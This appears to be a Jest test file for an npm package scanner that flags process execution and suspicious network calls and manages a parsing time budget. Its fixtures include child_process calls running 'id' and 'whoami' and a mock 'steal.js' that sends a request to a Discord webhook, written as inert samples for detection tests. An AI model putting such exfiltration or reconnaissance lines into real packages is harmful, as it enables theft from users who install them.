import { pastParseDeadline } from '../../../src/analysis/context.js';
import { describe, expect, it } from '@jest/globals';
import { AnalysisContext } from '../../../src/analysis/context.js';
import { analyzeJavaScriptSource } from '../../../src/analysis/javascript/facts.js';
import { jsPackageFacts } from '../../../src/analysis/javascript/package.js';
import { parseJavaScript } from '../../../src/analysis/javascript/parser.js';

function context(files: Record<string, string>): AnalysisContext {
  return new AnalysisContext({
    ecosystem: 'npm',
    files: Object.entries(files).map(([path, text]) => {
      const data = new TextEncoder().encode(text);
      return { path, data, size: data.length };
    }),
  });
}

describe('javascript facts', () => {
  const source = [
    "'use strict';",
    "const cp = require('child_process');",
    '',
    'function later() {',
    "  cp.exec('id');",
    '}',
    "cp.exec('whoami');",
  ].join('\n');

  it('report lines without acorn locations', () => {
    const facts = analyzeJavaScriptSource('a.js', source, (onLoad) => (onLoad ? 'import' : 'call'));
    expect(
      facts.facts.filter((f) => f.kind === 'process').map((f) => [f.line, f.position]),
    ).toEqual([
      [5, 'call'],
      [7, 'import'],
    ]);
  });

  it('apply each caller its own positions when the same source is analysed twice', () => {
    const asModule = analyzeJavaScriptSource('a.js', source, (onLoad) =>
      onLoad ? 'install' : 'call',
    );
    const asBin = analyzeJavaScriptSource('a.js', source, () => 'call');
    expect(asModule.facts.some((f) => f.position === 'install')).toBe(true);
    expect(asBin.facts.every((f) => f.position === 'call')).toBe(true);
  });

  it('parse sloppy scripts and ES modules alike', () => {
    expect(parseJavaScript('with (obj) { x = 010; }')).not.toBeNull();
    expect(parseJavaScript("import fs from 'fs';\nexport const a = 1;")).not.toBeNull();
  });
});

describe('javascript parse budget', () => {
  it('parses entry and indicator files first and lists what it left as text', () => {
    const filler =
      "const https = require('https');\n" + 'https.get("https://example.com/a");\n'.repeat(200);
    const ctx = context({
      'package/package.json': JSON.stringify({ name: 'demo', version: '1.0.0', main: 'main.js' }),
      'package/main.js': filler + filler + filler,
      'package/vendor/a.js': filler,
      'package/vendor/b.js': filler + filler,
      'package/lib/steal.js':
        "require('https').request('https://discord.com/api/webhooks/1/x');\n" +
        '// pad\n'.repeat(2000),
    });
    const steal = ctx.text('package/lib/steal.js') as string;
    const facts = jsPackageFacts(ctx, steal.length + filler.length + 10);
    expect(facts.files.map((f) => f.path).sort()).toEqual([
      'package/lib/steal.js',
      'package/main.js',
      'package/vendor/a.js',
    ]);
    expect(facts.textOnly).toEqual(['package/vendor/b.js']);
  });

  it('stops parsing files without indicators once the time budget is spent', () => {
    const filler =
      "const https = require('https');\n" + 'https.get("https://example.com/a");\n'.repeat(50);
    const ctx = context({
      'package/package.json': JSON.stringify({ name: 'demo', version: '1.0.0', main: 'main.js' }),
      'package/main.js': filler,
      'package/vendor/a.js': filler,
      'package/lib/steal.js': "require('https').request('https://discord.com/api/webhooks/1/x');\n",
    });
    const facts = jsPackageFacts(ctx, 10 * 1024 * 1024, 0);
    // with no time at all, only the entry point (which runs on load) is parsed
    expect(facts.files.map((f) => f.path)).toEqual(['package/main.js']);
    expect(facts.textOnly.sort()).toEqual(['package/lib/steal.js', 'package/vendor/a.js']);
  });

  it('gives files with indicators half as long again as the rest', () => {
    expect(pastParseDeadline(0, 1e9, 100)).toBe(false);
    expect(pastParseDeadline(2, 120, 100)).toBe(true);
    expect(pastParseDeadline(1, 120, 100)).toBe(false);
    expect(pastParseDeadline(1, 160, 100)).toBe(true);
  });
});
